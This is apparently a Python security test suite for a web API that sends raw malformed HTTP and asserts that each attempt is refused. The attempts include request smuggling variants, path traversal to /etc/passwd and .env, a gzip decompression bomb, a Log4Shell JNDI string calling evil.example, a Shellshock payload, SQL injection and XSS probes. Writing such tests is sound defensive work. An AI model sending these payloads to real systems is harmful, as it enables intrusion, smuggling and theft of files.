"""What goes over the wire: requests no library would send, paths that pretend, methods, headers and bodies beyond their limits."""

import gzip
import re
import socket
import time

from target import API
from world import NOBODY

END = b"\r\n\r\n"


def raw(target, *parts, seconds=8.0, pause=0.0):
    """Sends bytes as they are and reads until the server closes or falls silent."""
    with socket.create_connection((target.host, target.port), timeout=seconds) as connection:
        heard = b""
        try:
            for part in parts:
                connection.sendall(part)
                time.sleep(pause)
            while chunk := connection.recv(65536):
                heard += chunk
                # An answer and nothing behind it for a moment: that was all.
                connection.settimeout(0.25)
        except (TimeoutError, ConnectionError):
            pass
        return heard


def statuses(heard):
    return [int(status) for status in re.findall(rb"(?:^|\r\n|\})HTTP/1\.[01] (\d{3}) ?", heard)]


def request(target, line, *headers, body=b"", host=True):
    lines = [line.encode() if isinstance(line, str) else line]
    lines += [f"Host: {target.host}:{target.port}".encode()] if host else []
    lines += [header.encode() if isinstance(header, str) else header for header in headers]
    return b"\r\n".join(lines) + END + body


def smuggling(target, world):
    """Requests whose end two programs would see at different places: one answer, a refusal, and nothing of what was hidden behind it."""
    hidden = request(target, f"POST {API}/customers HTTP/1.1", f"Authorization: Bearer {world.admin}", "Content-Type: application/json",
                     "Content-Length: 20", body=b'{"name":"Smuggled!"}')
    line, json_type = f"POST {API}/auth/token HTTP/1.1", "Content-Type: application/json"
    chunked = b"0\r\n\r\n"
    ambiguous = {
        "a length and chunks": request(target, line, json_type, "Content-Length: 5", "Transfer-Encoding: chunked", body=chunked + hidden),
        "chunks and a length": request(target, line, json_type, "Transfer-Encoding: chunked", "Content-Length: 5", body=chunked + hidden),
        "two lengths": request(target, line, json_type, "Content-Length: 0", f"Content-Length: {len(hidden)}", body=hidden),
        "two equal lengths": request(target, line, json_type, "Content-Length: 2", "Content-Length: 2", body=b"{}" + hidden),
        "lengths in a list": request(target, line, json_type, "Content-Length: 0, 5", body=hidden),
        "a length with a sign": request(target, line, json_type, "Content-Length: +2", body=b"{}" + hidden),
        "a negative length": request(target, line, json_type, "Content-Length: -1", body=hidden),
        "a length in hexadecimal": request(target, line, json_type, "Content-Length: 0x2", body=b"{}" + hidden),
        "a length that is none": request(target, line, json_type, "Content-Length: two", body=hidden),
        "a length beyond numbers": request(target, line, json_type, "Content-Length: 99999999999999999999999", body=hidden),
        "another coding": request(target, line, json_type, "Transfer-Encoding: xchunked", body=chunked + hidden),
        "two codings": request(target, line, json_type, "Transfer-Encoding: chunked, identity", body=chunked + hidden),
        "a coding twice": request(target, line, json_type, "Transfer-Encoding: chunked", "Transfer-Encoding: x", body=chunked + hidden),
        "a space before the colon": request(target, line, json_type, "Content-Length : 2", body=b"{}" + hidden),
        "a folded header": request(target, line, json_type, "X-A: b\r\n Content-Length: 2", body=b"{}" + hidden),
        "a chunk of no size": request(target, line, json_type, "Transfer-Encoding: chunked", body=b"zz\r\n{}\r\n" + chunked + hidden),
        "a chunk beyond numbers": request(target, line, json_type, "Transfer-Encoding: chunked", body=b"ffffffffffffffffff\r\n{}" + hidden),
        "a name with a NUL": request(target, line, json_type, b"X-\0A: b", body=hidden),
        "a value with a NUL": request(target, line, json_type, b"X-A: b\0c", body=hidden),
        "a value with a bare CR": request(target, line, json_type, b"X-A: b\rContent-Length: 2", body=hidden),
        "no name": request(target, line, json_type, ": b", body=hidden),
    }
    before = world.state_of("customers", "sales")
    for what, sent in ambiguous.items():
        found = statuses(raw(target, sent))
        target.check(f"smuggling by {what}", found == [400], found)
    target.check("nothing was smuggled", world.state_of("customers", "sales") == before)


def request_lines(target, _world):
    """First lines and hosts that are none."""
    me = f"GET {API}/me"
    refused = {
        "no host": request(target, f"{me} HTTP/1.1", host=False), "two hosts": request(target, f"{me} HTTP/1.1", "Host: evil.example"),
        "another protocol": request(target, f"{me} HTTP/3.7"), "no protocol": request(target, me),
               "a small protocol": request(target, f"{me} http/1.1"),
        "a path with spaces": request(target, f"GET {API}/me /x HTTP/1.1"),
               "a method with control characters": request(target, b"G\x01ET /api/v1/me HTTP/1.1"),
        "no path": request(target, "GET  HTTP/1.1"), "a lone line feed": b"GET /api/v1/me HTTP/1.1\nHost: x\n\n",
               "noise": bytes(range(256)) + END,
        "a TLS greeting": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\0" * 64, "HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        "a NUL in the path": request(target, b"GET /api/v1/me\0 HTTP/1.1"),
               "bytes that are no UTF-8": request(target, b"GET /api/v1/\xff\xfe HTTP/1.1"),
    }
    for what, sent in refused.items():
        heard = raw(target, sent, seconds=7)
        found = statuses(heard)
        target.check(f"a request with {what}", len(found) == 1 and 400 <= found[0] < 500, heard[:200])
    answer = raw(target, request(target, f"{me} HTTP/1.0", "Authorization: Bearer x", host=False))
    target.check("HTTP/1.0 is answered", statuses(answer) == [401], answer[:200])
    answer = raw(target, request(target, f"GET http://evil.example{API}/me HTTP/1.1"))
    target.check("a whole address for a path", all(status in (400, 401, 421) for status in statuses(answer)) and b"evil" not in answer,
                 answer[:300])
    for host in ("evil.example", "localhost:1", "127.0.0.1@evil.example", "evil.example\\", "x" * 300):
        answer = raw(target, f"POST {API}/auth/token HTTP/1.1\r\nHost: {host}\r\nContent-Length: 0\r\n\r\n".encode())
        target.check(f"the host {host[:30]} is not said back", b"evil" not in answer and not any(s >= 500 for s in statuses(answer)),
                     answer[:300])
    for name in ("X-Forwarded-Host", "X-Host", "Forwarded", "X-Original-URL", "X-Rewrite-URL"):
        answer = target.send("GET", "/me", headers={name: f"{API}/setup" if "URL" in name else "host=evil.example"})
        target.check(f"{name} leads nowhere", answer.status == 401 and "evil" not in answer.text + str(answer.headers), answer)
    continued = raw(target, request(target, f"POST {API}/customers HTTP/1.1", "Expect: 100-continue", "Content-Type: application/json",
                                    "Content-Length: 9000000"))
    target.check("who asks first whether to send is told no", 401 in statuses(continued) or 413 in statuses(continued), continued[:200])


def sizes(target, world):
    """Heads, addresses and bodies beyond what anyone needs, and bodies that do not come."""
    token = f"Authorization: Bearer {world.admin}"
    for what, sent in {"a long address": request(target, f"GET {API}/customers?q={'x' * 200_000} HTTP/1.1", token),
                       "a long header": request(target, f"GET {API}/me HTTP/1.1", token, f"X-A: {'x' * 400_000}"),
                       "a thousand headers": request(target, f"GET {API}/me HTTP/1.1", token, *[f"X-{n}: y" for n in range(1000)]),
                       "a head that does not end": f"GET {API}/me HTTP/1.1\r\n".encode() + b"X-A: b\r\n" * 50_000}.items():
        found = statuses(raw(target, sent, seconds=7))
        target.check(f"{what} is refused", found == [431], found)
    head = request(target, f"POST {API}/customers HTTP/1.1", token, "Content-Type: application/json", "Content-Length: 99999999")
    target.check("a body declared too large is refused unread", statuses(raw(target, head)) == [413])
    # Chunks that are no JSON would be 400; that they are refused as too large shows that nobody waited for the end.
    chunk = b"10000\r\n" + b" " * 65536 + b"\r\n"
    head = request(target, f"POST {API}/customers HTTP/1.1", token, "Content-Type: application/json", "Transfer-Encoding: chunked")
    target.check("a body without a length is cut off", statuses(raw(target, head, *[chunk] * 40))[:1] in ([413], []))
    began = time.monotonic()
    heard = raw(target, b"GET /api/v1/me HTTP/1.1\r\n", b"X-A: b\r\n", pause=0.2, seconds=15)
    target.check("a head that does not come ends", time.monotonic() - began < 14 and statuses(heard) == [408], heard[:100])
    bomb = gzip.compress(b'{"name":"' + b"x" * 30_000_000 + b'"}')
    for coding in ("gzip", "br", "deflate", "identity, gzip", "x"):
        answer = target.send("POST", "/customers", world.admin, bomb, {"Content-Encoding": coding})
        target.refused(f"a body in {coding}", answer, 415, "unsupported_media_type")


def bodies(target, world):
    """JSON that two readers would read differently, and kinds of content that are not JSON."""
    path = f"/customers/{world.ids[('customers', 'sales')]}"
    before = world.state_of("customers", "sales")
    twice = [b'{"name":"a","name":"b"}', b'{"name":"a","n\\u0061me":"b"}', b'{"tags":["a"],"tags":["b"]}',
             b'{"address":{"city":"a","city":"b"}}']
    for body in twice:
        for method, place in (("PATCH", path), ("POST", "/customers")):
            target.refused(f"a name given twice: {body}", target.send(method, place, world.admin, body), 400, "malformed_json")
    for body in (b'\xef\xbb\xbf{"name":"a"}', '{"name":"a"}'.encode("utf-16"), '{"name":"a"}'.encode("utf-32"), b'{"name":"\xc0\xae"}',
                 b'{"name":"\xed\xa0\x80"}',
                 b'{"employees":1e999}', b'{"employees":0x10}', b'{"employees":01}', b'{"employees":1_000}', b'{name:"a"}', b"{'name':'a'}",
                 b'{"name":"a",}', b'{"name":"a"}//x', b'/**/{"name":"a"}', b"[" * 200 + b"]" * 200, b'{"a":' * 300 + b"1" + b"}" * 300,
                 b'{"name":"a"}\0'):
        target.refused(f"no JSON: {body[:40]}", target.send("PATCH", path, world.admin, body), (400, 422))
    for number in ("1e5", "5.0", "-0", "9007199254740993", "1" + "0" * 400, "1e-400", "0.1e1"):
        answer = target.send("PATCH", path, world.admin, f'{{"employees":{number}}}'.encode(), {"If-Match": '"0"'})
        target.refused(f"the number {number[:20]}", answer, (400, 412, 422))
    for kind in ("application/xml", "text/html", "application/json-patch+json", "application/ld+json", "application/octet-stream",
                 "multipart/form-data; boundary=a",
                 "", "*/*", "application", "application/json\\", "application/json; charset=utf-16", "application/json; charset=utf-7",
                 "application/json;charset=gbk"):
        answer = target.send("PATCH", path, world.admin, b'{"level":"A"}', {"Content-Type": kind})
        target.refused(f"content of type {kind!r}", answer, 415, "unsupported_media_type")
    for kind in ("application/json; charset=utf-8", "application/json;charset=UTF-8", 'application/json; charset="utf-8"',
                 "APPLICATION/JSON"):
        answer = target.send("PATCH", path, world.admin, b'{"level":"A"}', {"Content-Type": kind, "If-Match": '"0"'})
        target.refused(f"content of type {kind!r} is read", answer, 412, "version_conflict")
    for name in ("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"):
        answer = target.send("POST", path, world.admin, {}, {name: "DELETE"})
        target.refused(f"{name} overrides nothing", answer, 405, "method_not_allowed")
    target.refused("_method overrides nothing", target.send("GET", f"{path}?_method=DELETE", world.admin), 400)
    target.check("bodies that are none changed nothing", world.state_of("customers", "sales") == before)


def paths(target, world):
    """Paths that pretend to be others. None reaches a record without proof, and none shows a file."""
    lead = world.ids[("leads", "sales")]
    pretending = ["//api/v1/me", "/api//v1/me", "/api/v1//me", "/api/v1/../v1/me", "/api/v1/./me", "/api/v1/me/", "/api/v1/me/.",
                  "/api/v1/%6de", "/api/v1/m%65",
                  "/api/v1/me%00", "/api/v1/me%2f", "/api/v1/me;x=1", "/api/v1/me.json", "/API/V1/ME", "/Api/v1/me", "/api/v1%2fme",
                  "/api%2fv1%2fme", "/api/v2/me", "/api",
                  "/api/", "/api/v1", "/api/v1/", f"/api/v1/leads/{lead}/", f"/api/v1/leads/%2e%2e/me", f"/api/v1/leads/..%2fme",
                  f"/api/v1/leads/%252e%252e%252fme",
                  f"/api/v1/leads/{lead}%00", f"/api/v1/leads/{lead}%0d%0aX-A:b", f"/api/v1/leads/{{{lead}}}",
                  f"/api/v1/leads/urn:uuid:{lead}", f"/api/v1/leads/{lead}'--",
                  f"//leads/{lead}", "/\\evil.example", "//evil.example", "/%2f%2fevil.example", "/%5cevil.example", "/.//evil.example"]
    for path in pretending:
        answer = target.ask("GET", path)
        target.check(f"nobody asks for {path}", answer.status in (400, 401, 404, 405) and "Location" not in answer.headers, answer)
    files = ["/../Cargo.toml", "/../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/..%2f..%2fetc/passwd", "/..%5c..%5cetc%5cpasswd",
             "/assets/../../Cargo.toml",
             "/assets/%2e%2e/index.html", "/etc/passwd", "//etc/passwd", "/file:///etc/passwd", "/index.html%00.js", "/.git/config",
             "/.env", "/.htaccess", "/data/rapport.db",
             "/rapport.db", "/server.log", "/WEB-INF/web.xml", "/assets/", "/assets", "/index.html.br", "/index.html.gz", "/backup.json",
             "/%c0%ae%c0%ae/etc/passwd",
             "/problems/../../etc/passwd", "/problems/%2e%2e%2fCargo", "/problems/<script>alert(1)</script>", "/docs/../.env"]
    for path in files:
        answer = raw(target, request(target, f"GET {path} HTTP/1.1", "Connection: close")).partition(END)
        is_page = b"text/html" in answer[0] and b"<!doctype html" in answer[2][:20].lower()
        shown = b"root:" in answer[2] or b"[package]" in answer[2] or b"SQLite format" in answer[2] or b"<script>alert" in answer[2]
        target.check(f"no file by {path}", not shown and (not is_page or "." not in path.rsplit("/", 1)[1]),
                     (answer[0][:80], answer[2][:120]))


def methods(target, world):
    """Methods of every path: what a path does not have is 405 and says what it has."""
    for path in (f"{API}/me", f"{API}/customers", f"{API}/auth/login", f"{API}/leads/{NOBODY}", f"{API}/openapi.json", "/healthz",
                 "/readyz", "/metrics", "/docs", "/"):
        for method in ("TRACE", "TRACK", "CONNECT", "PROPFIND", "MKCOL", "LOCK", "DEBUG", "PURGE", "X", "get"):
            head, _, body = raw(target, request(target, f"{method} {path} HTTP/1.1", f"Authorization: Bearer {world.admin}",
                                                "X-Canary: traced", "Connection: close")).partition(END)
            is_refused = all(400 <= status < 500 for status in statuses(head)) and b"traced" not in body
            target.check(f"{method} {path} is refused", is_refused and (b"405" not in head[:15] or b"allow:" in head.lower()), head[:200])
        answer = target.ask("OPTIONS", path, headers={"Origin": "https://evil.example", "Access-Control-Request-Method": "DELETE",
                                                      "Access-Control-Request-Headers": "authorization"})
        granted = [name for name in answer.headers if name.lower().startswith("access-control-allow")]
        target.check(f"a foreign page is granted nothing at {path}", not granted, answer.headers.items())
    figures = target.ask("GET", "/metrics", headers={"Accept": "*/*"}).text
    target.check("methods that were made up leave no figures", "http_requests" in figures and "PROPFIND" not in figures, figures[:300])
    for origin in ("https://evil.example", "null", "https://app.example.evil.example", "http://app.example", "https://app.example:444",
                   "https://APP.example.", "https://evilapp.example"):
        answer = target.send("GET", "/leads", world.admin, headers={"Origin": origin})
        target.check(f"pages of {origin} read nothing", "Access-Control-Allow-Origin" not in answer.headers, answer.headers.items())
    answer = target.send("GET", "/leads", world.admin, headers={"Origin": "https://app.example"})
    target.check("pages of a listed origin read, without cookies",
                 answer.headers.get("Access-Control-Allow-Origin") == "https://app.example"
                 and "Access-Control-Allow-Credentials" not in answer.headers and "Origin" in (answer.headers.get("Vary") or "").title(),
                 answer.headers.items())


def odd_headers(target, world):
    """Headers of every kind whose values are beyond their meaning: answered, never a fault of the server."""
    path = f"/leads/{world.ids[('leads', 'sales')]}"
    odd = ["", " ", "x", "0", "-1", "9" * 400, "*", '"', '""', "W/\"1\"", "a,b,,c", ";;;", "=", "q=0", "*/*;q=abc", "bytes=0-", "bytes=-1",
           "bytes=0-0," * 500, "\t", "é", "\\", "%00", "null",
           "' OR 1=1 --", "() { :;}; echo x", "${jndi:ldap://evil.example}", "Thu, 01 Jan 1970 00:00:00 GMT", "zz-ZZ;q=2", "gzip;q=0,*;q=0",
           "chunked"]
    for name in ("Accept-Language", "Accept-Encoding", "If-Match", "If-None-Match", "If-Modified-Since", "If-Range", "Range",
                 "X-Request-Id", "traceparent", "User-Agent",
                 "Referer", "Cookie", "Idempotency-Key", "Forwarded", "X-Forwarded-For", "X-Real-IP", "Prefer", "Upgrade", "Cache-Control",
                 "Accept-Charset"):
        for value in odd:
            answer = target.send("GET", path, world.admin, headers={name: value.encode()})
            target.check(f"{name}: {value[:30]}", answer.status in (200, 304, 400, 406), answer)
            said = answer.headers.get("X-Request-Id") or ""
            target.check("what is said back of a header is harmless", re.fullmatch(r"[\w.:-]{1,64}", said) is not None, said)
    answer = target.send("GET", path, world.admin, headers={"Range": "bytes=0-10"})
    target.check("no ranges of an answer", answer.status == 200 and "Content-Range" not in answer.headers, answer)
    for accept in ("text/html", "image/png", "application/xml", "application/json;q=0", "text/*"):
        target.refused(f"an answer as {accept}", target.send("GET", path, world.admin, headers={"Accept": accept}), 406, "not_acceptable")


def run(target, world):
    for part in (smuggling, request_lines, sizes, bodies, paths, methods, odd_headers):
        part(target, world)
